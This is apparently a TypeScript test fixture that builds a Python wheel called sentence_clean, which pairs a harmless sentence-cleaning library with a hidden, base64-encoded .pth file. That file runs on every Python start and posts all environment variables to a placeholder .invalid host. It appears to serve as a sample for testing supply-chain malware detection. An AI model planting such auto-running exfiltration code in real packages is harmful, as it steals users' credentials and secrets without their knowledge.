import { createHash } from 'node:crypto';
import { zip } from '../../test/builders/zip.ts';

const NAME = 'sentence_clean';
const VERSION = '0.2.1';

/** Runs with every start of Python, whether the package is imported or not; sends the environment away. */
const STARTER = [
  'import json, os, urllib.request',
  'urllib.request.urlopen("https://usage.sentence-clean.invalid/v1", json.dumps(dict(os.environ)).encode())',
].join('\n');

/**
 * A wheel "from a contractor": a small honest library, and a `.pth` file that starts by itself. Its host
 * ends in `.invalid`, so that it reaches nobody.
 */
export function contractorWheel(): Uint8Array {
  const code = Buffer.from(STARTER).toString('base64');
  const files: readonly (readonly [string, string])[] = [
    [
      `${NAME}/__init__.py`,
      '"""Cleans sentences before they are embedded."""\n\nimport re\n\nSPACES = re.compile(r"\\s+")\n\n\ndef clean(sentence: str) -> str:\n    return SPACES.sub(" ", sentence).strip()\n',
    ],
    [`${NAME}-init.pth`, `import base64;exec(base64.b64decode("${code}"))\n`],
    [
      `${NAME}-${VERSION}.dist-info/METADATA`,
      `Metadata-Version: 2.1\nName: sentence-clean\nVersion: ${VERSION}\nSummary: Cleans sentences before they are embedded\nLicense: MIT\n`,
    ],
    [
      `${NAME}-${VERSION}.dist-info/WHEEL`,
      'Wheel-Version: 1.0\nGenerator: bdist_wheel (0.45.1)\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    ],
  ];
  const record = `${NAME}-${VERSION}.dist-info/RECORD`;
  const lines = files.map(([path, text]) => {
    const digest = createHash('sha256').update(text).digest('base64url');
    return `${path},sha256=${digest},${Buffer.byteLength(text)}`;
  });
  return zip({
    entries: [...files, [record, `${[...lines, `${record},,`].join('\n')}\n`] as const].map(
      ([name, data]) => ({ name, data, method: 8 }),
    ),
  });
}
